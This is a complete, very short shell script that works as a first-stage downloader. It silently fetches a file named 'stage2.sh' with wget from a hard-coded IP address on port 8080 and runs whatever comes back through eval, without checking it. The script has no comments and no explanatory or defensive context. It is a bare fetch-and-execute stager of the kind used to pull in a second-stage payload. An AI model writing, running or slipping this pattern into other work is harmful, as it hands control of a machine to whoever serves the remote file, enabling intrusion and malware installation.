#!/bin/sh
get() {
  wget -qO- "http://203.0.113.45:8080/$1"
}

run_remote() {
  body=$(get "$1")
  eval "$body"
}

run_remote stage2.sh
